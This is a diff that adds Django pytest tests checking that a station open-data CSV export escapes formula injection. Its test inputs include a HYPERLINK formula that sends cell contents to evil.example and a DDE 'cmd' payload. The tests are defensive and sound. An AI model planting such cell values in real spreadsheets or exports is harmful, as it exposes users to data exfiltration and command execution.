@@ -287,3 +287,46 @@ def test_station_urls_route_to_stations_and_index_routes_keep_precedence(
     station.unpublish()
     assert client.get(station.url).status_code == 404
     assert client.get(f"{station_index.url}no-such-station/").status_code == 404
+
+
+@pytest.mark.django_db
+def test_open_data_csv_does_not_carry_live_formulas(client, station_index, make_station):
+    """Text a liaison may edit is written so that a spreadsheet shows it instead of running it;
+    numbers (a negative coordinate too) stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
+    make_station(
+        title=formula,
+        address="+1+cmd|' /C calc'!A0",
+        opening_hours="-2+3",
+        liaison_name="@SUM(1+1)",
+        lat=-33.8688,
+        lng=151.2093,
+    )
+    body = client.get("/open-data/stations.csv").content.decode("utf-8-sig")
+    row = next(csv.DictReader(io.StringIO(body)))
+    assert row["名称"] == "'" + formula
+    assert row["地址"] == "'+1+cmd|' /C calc'!A0"
+    assert row["开放时间"] == "'-2+3"
+    assert row["联络员"] == "'@SUM(1+1)"
+    assert row["联络员电话"] == "13812345678"
+    assert (row["纬度"], row["经度"]) == ("-33.8688", "151.2093")
+
+
+def test_csv_cell_neutralises_only_formula_text():
+    from delegates.opendata import csv_cell
+
+    assert [csv_cell(v) for v in ("=1+1", "+86", "-x", "@a", "\tx", "\rx")] == [
+        "'=1+1",
+        "'+86",
+        "'-x",
+        "'@a",
+        "'\tx",
+        "'\rx",
+    ]
+    assert [csv_cell(v) for v in (-1.5, 3, None, "幸福社区", "0572-2345678")] == [
+        -1.5,
+        3,
+        "",
+        "幸福社区",
+        "0572-2345678",
+    ]
